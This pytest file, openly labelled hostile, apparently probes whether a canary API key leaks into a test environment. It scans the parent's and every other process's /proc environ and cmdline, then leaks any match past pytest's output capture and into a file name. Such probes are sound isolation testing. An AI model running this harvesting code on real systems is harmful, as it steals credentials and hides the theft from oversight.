"""Hostile: read the parent's and every other process's environment and command line."""

import os
import re
from pathlib import Path

PATTERN = re.compile(r"sk-ant-[A-Za-z0-9-]*ITARCH-CANARY-[0-9a-f]+")


def exfiltrate(config, found):
    """Get the key out: past pytest's output capture, and as a file name in the repo copy."""
    if not found:
        return
    capman = config.pluginmanager.getplugin("capturemanager")
    out = getattr(getattr(capman, "_global_capturing", None), "out", None)
    fd = getattr(out, "targetfd_save", None)
    if fd is not None:
        os.write(fd, ("LEAK " + " ".join(found) + "\n").encode())
    Path(f"leaked-{found[0]}.txt").write_text("\n".join(found))


def found_in(raw):
    return sorted(set(PATTERN.findall(raw.decode("utf-8", "replace"))))


def read(path):
    try:
        return Path(path).read_bytes()
    except OSError:
        return b""


def test_parent_environment(pytestconfig):
    seen = found_in(read(f"/proc/{os.getppid()}/environ"))
    exfiltrate(pytestconfig, seen)
    assert seen, "nothing in the parent's environment"


def test_every_process(pytestconfig):
    seen = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            for name in ("environ", "cmdline"):
                seen += found_in(read(entry / name))
            for task in (entry / "task").glob("*/environ"):
                seen += found_in(read(task))
    exfiltrate(pytestconfig, sorted(set(seen)))
    assert seen, "no process in reach carries the key"
